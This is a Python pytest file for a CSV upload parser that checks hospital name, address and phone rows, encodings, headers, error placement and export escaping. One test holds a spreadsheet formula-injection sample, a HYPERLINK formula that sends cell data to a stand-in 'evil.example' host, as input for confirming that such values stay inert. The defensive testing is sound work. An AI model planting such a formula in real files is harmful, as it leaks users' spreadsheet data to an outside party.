"""CSV intake rules: every problem of a file, with its place, and the rows of a good one."""

from __future__ import annotations

import csv
import io
from typing import Literal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.domain.csv_intake import (
    HEADERS_MESSAGE,
    MAX_BLANK_LINES,
    CsvRejected,
    ParsedCsv,
    Problem,
    check_filename,
    decode,
    escaped,
    parse,
    parse_upload,
    unescaped,
)
from service.domain.events import Row

HEADER = "name,address,phone\n"
BOM = b"\xef\xbb\xbf"


def accepted(data: bytes | str, max_rows: int = 1000) -> ParsedCsv:
    raw = data.encode() if isinstance(data, str) else data
    return parse_upload("hospitals.csv", raw, max_rows)


def refused(data: bytes | str, max_rows: int = 1000) -> list[Problem]:
    raw = data.encode() if isinstance(data, str) else data
    with pytest.raises(CsvRejected) as caught:
        parse_upload("hospitals.csv", raw, max_rows)
    assert caught.value.status == 422
    return caught.value.problems


def only(problems: list[Problem]) -> Problem:
    assert len(problems) == 1, problems
    return problems[0]


# File name ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["hospitals.csv", "HOSPITALS.CSV", "export.2024.csv", ".csv"])
def test_a_name_ending_in_csv_is_accepted(name: str) -> None:
    check_filename(name)


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        pytest.param("hospitals.txt", "'hospitals.txt'", id="txt"),
        pytest.param("hospitals.xlsx", "'hospitals.xlsx'", id="xlsx"),
        pytest.param("hospitals.csv.exe", "'hospitals.csv.exe'", id="csv-then-exe"),
        pytest.param("hospitals", "'hospitals'", id="no-extension"),
        pytest.param("", "'no file name'", id="empty"),
        pytest.param(None, "'no file name'", id="none"),
    ],
)
def test_a_name_not_ending_in_csv_is_refused(name: str | None, shown: str) -> None:
    with pytest.raises(CsvRejected) as caught:
        check_filename(name)
    problem = only(caught.value.problems)
    assert problem["loc"] == ["file", "filename"]
    assert problem["type"] == "file_type_error"
    assert problem["msg"] == f"the file must be a .csv file, got {shown}"


def test_the_name_is_checked_before_the_content() -> None:
    with pytest.raises(CsvRejected) as caught:
        parse_upload("hospitals.txt", b"\x00\x01", 1000)
    assert only(caught.value.problems)["type"] == "file_type_error"


# Encoding -------------------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", [b"", BOM], ids=["plain", "bom"])
def test_utf8_is_decoded_with_or_without_bom(prefix: bytes) -> None:
    assert decode(prefix + "name,address\nZoë Clinic,1 Straße\n".encode()) == (
        "name,address\nZoë Clinic,1 Straße\n"
    )


def test_a_bom_is_not_part_of_the_first_header() -> None:
    assert accepted(BOM + b"name,address\nA,B\n").headers == ("name", "address")


@pytest.mark.parametrize(
    ("data", "place"),
    [
        pytest.param(b"name,address\nCaf\xe9,x\n", "byte 0xe9 at line 2, column 4", id="latin-1"),
        pytest.param(
            BOM + b"name,address\nCaf\xe9,x\n", "byte 0xe9 at line 2, column 4", id="bom-latin-1"
        ),
        pytest.param(
            BOM + b"name,addr\xe9ss\n", "byte 0xe9 at line 1, column 10", id="bom-first-line"
        ),
        pytest.param(
            "name,address\nZoë,".encode() + b"\x93x\x94\n",
            "byte 0x93 at line 2, column 5",
            id="cp1252-quotes-after-utf8",
        ),
        pytest.param(b"\xff\xd8\xff\xe0 JFIF", "byte 0xff at line 1, column 1", id="jpeg-bytes"),
        pytest.param(
            b"name,address\rA,B\rCaf\x8e,x\r", "byte 0x8e at line 3, column 4", id="cr-macroman"
        ),
        pytest.param(
            b'name,address\r\nA,B\rC,"x\ny"\r\nCaf\xe9,x\n',
            "byte 0xe9 at line 5, column 4",
            id="every-line-ending",
        ),
    ],
)
def test_bytes_that_are_not_utf8_are_refused_with_their_place(data: bytes, place: str) -> None:
    problem = only(refused(data))
    assert problem["loc"] == ["file", "encoding"]
    assert problem["type"] == "encoding_error"
    assert place in problem["msg"]
    assert "save it as UTF-8" in problem["msg"]


@pytest.mark.parametrize(
    ("data", "says"),
    [
        pytest.param(b"name,address\nA\x00,B\n", "NUL bytes from line 2", id="nul-in-utf8"),
        pytest.param(b"name,address\rA,B\rC\x00,D\r", "NUL bytes from line 3", id="nul-cr-lines"),
        pytest.param(
            "\ufeffname,address\nA,B\n".encode("utf-16-le"), "looks like UTF-16", id="utf-16-le"
        ),
        pytest.param(
            "\ufeffname,address\nA,B\n".encode("utf-16-be"), "looks like UTF-16", id="utf-16-be"
        ),
        pytest.param("name,address\n".encode("utf-16-le"), "from line 1", id="utf-16-no-bom"),
        pytest.param("name,address\n".encode("utf-32"), "not a UTF-8 text CSV", id="utf-32"),
        pytest.param(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "NUL bytes", id="png"),
    ],
)
def test_nul_bytes_are_refused_as_not_utf8_text(data: bytes, says: str) -> None:
    problem = only(refused(data))
    assert problem["loc"] == ["file", "encoding"]
    assert problem["type"] == "encoding_error"
    assert says in problem["msg"]


# Headers --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "headers"),
    [
        pytest.param("name,address,phone", ("name", "address", "phone"), id="exact"),
        pytest.param("name,address", ("name", "address"), id="no-phone"),
        pytest.param("address,name", ("address", "name"), id="reordered"),
        pytest.param("phone,address,name", ("phone", "address", "name"), id="phone-first"),
        pytest.param(" Name ,ADDRESS,\tPhone ", ("name", "address", "phone"), id="case-and-space"),
        pytest.param('"name","address","phone"', ("name", "address", "phone"), id="quoted"),
    ],
)
def test_headers_are_trimmed_case_insensitive_and_in_any_order(
    header: str, headers: tuple[str, ...]
) -> None:
    values = {"name": "General", "address": "1 Main St", "phone": "555-0100"}
    line = ",".join(values[column] for column in headers)
    parsed = accepted(f"{header}\n{line}\n")
    assert parsed.headers == headers
    assert parsed.rows[0].name == "General"
    assert parsed.rows[0].address == "1 Main St"


@pytest.mark.parametrize(
    "header",
    [
        pytest.param("address,phone", id="missing-name"),
        pytest.param("name,phone", id="missing-address"),
        pytest.param("name", id="only-name"),
        pytest.param("name,address,phone,email", id="extra-column"),
        pytest.param("name,address,name", id="duplicated-column"),
        pytest.param("name,address,phone,phone", id="duplicated-phone"),
        pytest.param("hospital,address,phone", id="renamed-column"),
        pytest.param("name,address,phone,", id="trailing-empty-column"),
        pytest.param("name;adress;phone", id="semicolons-around-a-wrong-name"),
        pytest.param("General Hospital,123 Main Street,555-0100", id="data-instead-of-header"),
        pytest.param("Name,Address,Phone Number", id="phone-number"),
        pytest.param(" name , address , fax ", id="padded-cells-shown-as-written"),
    ],
)
def test_any_other_header_is_refused_showing_what_was_found(header: str) -> None:
    problem = only(refused(f"{header}\nA,B,C\n"))
    assert problem["loc"] == ["file", "headers"]
    assert problem["type"] == "invalid_headers"
    assert problem["msg"].startswith(HEADERS_MESSAGE)
    assert problem["msg"].endswith(f"found: {header}")


@pytest.mark.parametrize("sep", [";", "\t", "|"])
def test_a_header_separated_otherwise_is_refused_naming_the_separator(sep: str) -> None:
    # A spreadsheet set to a European locale saves its "CSV" with semicolons.
    header = sep.join(["Name", "Address", "Phone"])
    problem = only(refused(f"{header}\n{sep.join('ABC')}\n"))
    assert problem["type"] == "invalid_headers"
    assert problem["msg"].endswith(
        f"found: {header} (values separated by {sep!r}: save the file with commas between them)"
    )


def test_a_header_of_ten_thousand_columns_is_summarised() -> None:
    header = ",".join(f"c{n}" for n in range(10_000))
    problem = only(refused(header + "\n"))
    assert problem["type"] == "invalid_headers"
    assert "(10000 columns)" in problem["msg"]
    assert len(problem["msg"]) < 400


@pytest.mark.parametrize("blank", [2, MAX_BLANK_LINES + 1], ids=["few", "past-the-allowance"])
def test_a_file_starting_with_blank_lines_has_no_header(blank: int) -> None:
    # The allowance of blank lines is for those after the header: before it, any number of
    # them still means the header is missing.
    problem = only(refused("\n" * blank + "name,address\nA,B\n"))
    assert problem["loc"] == ["file", "headers"]
    assert problem["type"] == "missing_headers"
    assert "starts with blank lines" in problem["msg"]


# Rows -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("newline", ["\n", "\r\n", "\r"], ids=["lf", "crlf", "cr"])
def test_every_line_ending_gives_the_same_rows(newline: str) -> None:
    text = newline.join(["name,address,phone", "A,1 Main St,555", "B,2 Oak Ave,"]) + newline
    assert accepted(text).rows == (
        Row(1, "A", "1 Main St", "555", 2),
        Row(2, "B", "2 Oak Ave", None, 3),
    )


def test_quoted_fields_keep_commas_quotes_and_newlines() -> None:
    text = (
        HEADER
        + '"General, Hospital","123 Main St\r\nSuite 4","555-0100"\r\n'
        + '"The ""Best"" Clinic",2 Oak Ave,\r\n'
    )
    assert accepted(text).rows == (
        Row(1, "General, Hospital", "123 Main St\r\nSuite 4", "555-0100", 2),
        Row(2, 'The "Best" Clinic', "2 Oak Ave", None, 4),
    )


def test_values_are_trimmed_and_a_blank_phone_is_none() -> None:
    text = HEADER + "  General  ,\t1 Main St \t,   \n"
    assert accepted(text).rows == (Row(1, "General", "1 Main St", None, 2),)


def test_the_quote_the_results_export_puts_before_formulas_is_taken_off() -> None:
    text = HEADER + "'=SUM(A1),'@home,'+1-555-0100\n'Sullivan's,''=quoted,'555\n"
    assert accepted(text).rows == (
        Row(1, "=SUM(A1)", "@home", "+1-555-0100", 2),
        Row(2, "'Sullivan's", "'=quoted", "'555", 3),  # one ' off, and only before a formula
    )


@pytest.mark.parametrize("value", ["\t=1+1", "\r=1+1"], ids=["tab", "cr"])
def test_a_value_starting_with_a_tab_or_cr_is_exported_inert_and_read_back(value: str) -> None:
    # A spreadsheet trims the tab or CR and computes the rest; unquoted, an upload of the
    # export would also trim it off.
    assert escaped(value) == "'" + value
    assert accepted(HEADER + f'"{escaped(value)}",1 Main St,\n').rows[0].name == value


@given(st.text())
def test_an_exported_value_comes_back_from_an_upload_as_it_was(value: str) -> None:
    assert unescaped(escaped(value)) == value


def test_phone_may_be_left_out_of_the_header() -> None:
    assert accepted("address,name\n1 Main St,General\n").rows == (
        Row(1, "General", "1 Main St", None, 2),
    )


def test_blank_lines_and_empty_rows_are_skipped_without_taking_a_number() -> None:
    text = HEADER + "A,1 Main St,\n\n,,\n  , ,\nB,2 Oak Ave,\n\n"
    assert accepted(text).rows == (
        Row(1, "A", "1 Main St", None, 2),
        Row(2, "B", "2 Oak Ave", None, 6),
    )


@pytest.mark.parametrize(
    ("line", "column"),
    [
        pytest.param(",1 Main St,555", "name", id="empty-name"),
        pytest.param("   ,1 Main St,555", "name", id="blank-name"),
        pytest.param("General,,555", "address", id="empty-address"),
        pytest.param('General,"  \t ",555', "address", id="blank-quoted-address"),
    ],
)
def test_a_blank_required_value_is_refused_at_its_row_and_column(line: str, column: str) -> None:
    problem = only(refused(HEADER + "Fine,2 Oak Ave,\n" + line + "\n"))
    assert problem["loc"] == ["row", 2, column]
    assert problem["type"] == "value_error"
    assert problem["msg"] == (
        f"{column} is required and must be at least 1 character (row 2, line 3)"
    )


@pytest.mark.parametrize(
    ("line", "found"),
    [
        pytest.param("General,1 Main St,555,extra", "4 values", id="one-too-many"),
        pytest.param("General,1 Main St", "2 values", id="one-too-few"),
        pytest.param("General", "1 value", id="single-value"),
        pytest.param(
            "General," + ",".join(["x"] * 9_999), "10000 values", id="ten-thousand-values"
        ),
    ],
)
def test_a_row_with_the_wrong_number_of_values_is_refused(line: str, found: str) -> None:
    problem = only(refused(HEADER + line + "\n"))
    assert problem["loc"] == ["row", 1]
    assert problem["type"] == "wrong_column_count"
    assert problem["msg"] == f"row 1 (line 2) has {found}, expected 3 (name,address,phone)"


def test_every_problem_of_the_file_is_reported_at_once() -> None:
    text = HEADER + "A,1 Main St,\n,,555\nB\nC,3 Elm St,\n  ,4 Elm St,\n"
    assert [(p["loc"], p["type"]) for p in refused(text)] == [
        (["row", 2, "name"], "value_error"),
        (["row", 2, "address"], "value_error"),
        (["row", 3], "wrong_column_count"),
        (["row", 5, "name"], "value_error"),
    ]


def test_the_problems_before_a_record_that_cannot_be_read_are_kept() -> None:
    text = HEADER + ',1 Main St,\nA,,\nB,2 Oak Ave,\nC,"3 Elm" St,\n'
    assert [(p["loc"], p["type"]) for p in refused(text)] == [
        (["row", 1, "name"], "value_error"),
        (["row", 2, "address"], "value_error"),
        (["file", "content"], "csv_parse_error"),
    ]


def test_line_numbers_follow_newlines_inside_quotes() -> None:
    text = HEADER + '"A","1 Main St\nFloor 2\nRoom 3",\n,2 Oak Ave,\n'
    problem = only(refused(text))
    assert problem["loc"] == ["row", 2, "name"]
    assert "(row 2, line 5)" in problem["msg"]


# Content --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"", id="zero-bytes"),
        pytest.param(BOM, id="only-bom"),
        pytest.param(b"\n\r\n\n", id="only-newlines"),
        pytest.param(b"   \n\t\n", id="only-whitespace"),
    ],
)
def test_an_empty_file_is_refused(data: bytes) -> None:
    problem = only(refused(data))
    assert problem == {
        "loc": ["file", "content"],
        "msg": "the file is empty: no header, no rows",
        "type": "empty_file",
    }


@pytest.mark.parametrize("text", [HEADER, "name,address", HEADER + "\n\n,,\n"])
def test_a_header_without_rows_is_refused(text: str) -> None:
    problem = only(refused(text))
    assert problem == {
        "loc": ["file", "content"],
        "msg": "the file has a header but no data rows",
        "type": "empty_file",
    }


def test_max_rows_rows_are_accepted() -> None:
    assert len(accepted(HEADER + "A,1 Main St,\n" * 5, max_rows=5).rows) == 5


def test_more_rows_than_max_rows_are_refused_first() -> None:
    problems = refused(HEADER + ",1 Main St,\n" + "A,1 Main St,\n" * 6, max_rows=5)
    assert problems[0] == {
        "loc": ["file", "content"],
        "msg": "the file has more than 5 data rows; at most 5 are allowed per upload",
        "type": "too_many_rows",
    }
    assert [p["loc"] for p in problems[1:]] == [["row", 1, "name"]]


def test_a_file_of_blank_lines_is_read_no_further_than_the_allowance() -> None:
    text = HEADER + "A,1 Main St,\n" + ",,\n" * MAX_BLANK_LINES
    assert len(accepted(text).rows) == 1

    [too_many] = refused(text + "\n" + 'B,"unclosed\n')  # one more: refused before reading on
    assert too_many["type"] == "too_many_blank_lines"
    assert f"line {MAX_BLANK_LINES + 3} is one" in too_many["msg"]


def test_a_file_over_max_rows_is_read_no_further_than_the_row_past_it() -> None:
    unreadable_later = HEADER + "A,1 Main St,\n" * 6 + 'B,"2 Oak Ave\n'
    assert refused(unreadable_later, max_rows=5) == [
        {
            "loc": ["file", "content"],
            "msg": "the file has more than 5 data rows; at most 5 are allowed per upload",
            "type": "too_many_rows",
        }
    ]


@pytest.mark.parametrize(
    ("text", "place", "says"),
    [
        pytest.param(
            HEADER + '"General,1 Main St,555\nB,2 Oak Ave,\n',
            "lines 2-3: unexpected end of data",
            "the record starting on line 2 runs over 2 lines: check that its quotes are closed",
            id="unterminated-quote",
        ),
        pytest.param(
            HEADER + "A,1 Main St,\n" + '"B,2 Oak Ave,\n' + "C,3 Elm St,\n" * 500,
            "lines 3-503: unexpected end of data",
            "the record starting on line 3 runs over 501 lines",
            id="unterminated-quote-far-from-the-end",
        ),
        pytest.param(
            HEADER + 'A,1 Main St,\n"B"x,2 Oak Ave,\n',
            "line 3: ',' expected after '\"'",
            "line 3",
            id="text-after-closing-quote",
        ),
        pytest.param(
            HEADER + "A," + "x" * 200_000 + ",\n",
            "line 2: a value is longer than 131,072 characters",
            "131,072",
            id="value-over-the-length-limit",
        ),
    ],
)
def test_text_that_is_not_csv_is_refused_at_the_line_it_starts(
    text: str, place: str, says: str
) -> None:
    problem = only(refused(text))
    assert problem["loc"] == ["file", "content"]
    assert problem["type"] == "csv_parse_error"
    assert problem["msg"].startswith(place)
    assert says in problem["msg"]


def test_long_and_formula_like_values_are_kept_as_text() -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = HEADER + f'"{formula.replace(chr(34), chr(34) * 2)}",{"x" * 10_000},+1 555 0100\n'
    row = accepted(text).rows[0]
    assert row.name == formula
    assert row.address == "x" * 10_000
    assert row.phone == "+1 555 0100"


def test_a_value_at_the_length_limit_goes_back_in_from_its_export() -> None:
    # The export's ' makes it one character longer than the limit it was accepted under.
    value = "=" + "x" * (131_072 - 1)
    assert accepted(HEADER + f"{value},1 Main St,\n").rows[0].name == value
    assert accepted(HEADER + f"{escaped(value)},1 Main St,\n").rows[0].name == value
    spread = HEADER + 'A,1 Main St,\n"a\nb\n' + "x" * 131_072 + '",1 Main St,\n'
    assert only(refused(spread))["msg"].startswith("line 3: a value is longer than")
    for longer in ("x" * 131_073, "'" + "x" * 131_072, escaped(value + "x")):
        assert only(refused(HEADER + f"{longer},1 Main St,\n")) == {
            "loc": ["file", "content"],
            "msg": "line 2: a value is longer than 131,072 characters",
            "type": "csv_parse_error",
        }


# Duplicates -----------------------------------------------------------------------------------


def test_duplicate_rows_are_kept_and_warned_about() -> None:
    text = HEADER + "A,1 Main St,555\nB,2 Oak Ave,\n A , 1 Main St ,555\nA,1 Main St,556\n"
    parsed = accepted(text)
    assert [r.name for r in parsed.rows] == ["A", "B", "A", "A"]
    assert parsed.warnings == [
        {
            "loc": ["row", 3],
            "msg": "row 3 (line 4) repeats row 1: both will be created",
            "type": "duplicate_row",
        }
    ]


def test_every_repeat_names_the_first_row() -> None:
    parsed = accepted(HEADER + "A,1 Main St,\n" * 3)
    assert [w["msg"] for w in parsed.warnings] == [
        "row 2 (line 3) repeats row 1: both will be created",
        "row 3 (line 4) repeats row 1: both will be created",
    ]


def test_a_file_without_duplicates_has_no_warnings() -> None:
    assert accepted(HEADER + "A,1 Main St,\nB,1 Main St,\n").warnings == []


# Round trip -----------------------------------------------------------------------------------

# No lone CR: Python 3.11's writer leaves it unquoted with lineterminator "\n", and an
# unquoted CR is a line break to every CSV reader.
value = st.text(
    st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00\r"), max_size=20
)
required = value.filter(lambda text: text.strip() != "")
hospital = st.tuples(required, required, value)


@given(
    st.lists(hospital, min_size=1, max_size=8),
    st.sampled_from(["\n", "\r\n"]),
    st.booleans(),
    st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]),
)
def test_any_file_a_csv_writer_makes_is_read_back(
    hospitals: list[tuple[str, str, str]], newline: str, bom: bool, quoting: Literal[0, 1]
) -> None:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=newline, quoting=quoting)
    writer.writerow(["name", "address", "phone"])
    writer.writerows(hospitals)
    data = (BOM if bom else b"") + out.getvalue().encode()

    rows = parse(decode(data), max_rows=100).rows

    read = [(unescaped(v.strip()) for v in h) for h in hospitals]  # as an export quotes them
    assert [(r.row, r.name, r.address, r.phone) for r in rows] == [
        (n, name, address, phone or None) for n, (name, address, phone) in enumerate(read, 1)
    ]
